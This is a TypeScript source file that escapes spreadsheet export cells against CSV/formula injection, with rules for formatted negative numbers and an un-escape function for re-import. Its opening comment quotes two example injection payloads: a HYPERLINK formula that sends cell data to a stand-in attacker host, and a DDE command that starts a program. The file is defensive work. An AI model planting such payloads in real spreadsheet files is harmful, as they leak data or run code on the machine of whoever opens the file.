// Cells of the files the product writes for spreadsheets (every CSV and XLSX export) as text a
// spreadsheet shows and never runs. Excel, LibreOffice Calc and Google Sheets read a cell that
// starts with "=", "+", "-", "@", a tab or a carriage return as a formula: an imported name such
// as `=HYPERLINK("http://evil.example/?x="&A1,"Click")` or `+cmd|' /C calc'!A0` would send data
// away or start a program when the file is opened. OWASP's rule ("CSV Injection") is applied to
// text: such a cell gets a leading apostrophe, which spreadsheets take as "this is text".
//
// Numbers are not text: a number passed as a number stays one (a number cell in XLSX, its digits
// in CSV, "-1500000"), and a negative number written as the app writes it ("-1,500,000",
// "-1.500.000", "-12.5%", "-Rp 1.500.000", "-IDR 1,500,000") is left as it is: digits, group and
// decimal separators, a percent sign and a currency before them can call no function, refer to
// no cell and reach no program, so nothing there can run, and the apostrophe would only mangle it.
// Nor is the lone "-" the app writes for a missing value.

/** What a cell may hold before it is written. */
export type CellInput = string | number | boolean | null | undefined;
/** What an export writes: text that runs nothing, or a number. */
export type SafeCell = string | number;

/** The leading characters OWASP lists: a formula to a spreadsheet. */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * A negative number as the app formats it (src/lib/format.ts): a minus, then a currency symbol or
 * a 2-3 letter currency and a space, then digits with their separators, maybe a percent sign.
 */
const NEGATIVE_NUMBER = /^-(?:\p{Sc}[ \u00a0]?|\p{Lu}\p{L}{1,2}[ \u00a0])?\d[\d.,\u00a0\u202f]*%?$/u;

/** Text left as it is although it starts with a formula's character: a negative number, or the lone "-" of a missing value (src/lib/format.ts MISSING), which has nothing to run. */
const INERT = (text: string) => text === "-" || NEGATIVE_NUMBER.test(text);

/** The prefix that makes a spreadsheet read the rest as text. */
const TEXT_PREFIX = "'";

/** The cell as an export writes it: numbers stay numbers, text that a spreadsheet would run gets a leading apostrophe. */
export function spreadsheetCell(v: CellInput): SafeCell {
  if (typeof v === "number") return Number.isFinite(v) ? v : String(v);
  if (v === null || v === undefined) return "";
  const text = String(v);
  return FORMULA_START.test(text) && !INERT(text) ? TEXT_PREFIX + text : text;
}

/** A cell read back from a file the product wrote (the staff import): the apostrophe spreadsheetCell added is taken off again. */
export function unneutralizedCell(text: string): string {
  return text.startsWith(TEXT_PREFIX) && FORMULA_START.test(text.slice(1)) ? text.slice(1) : text;
}
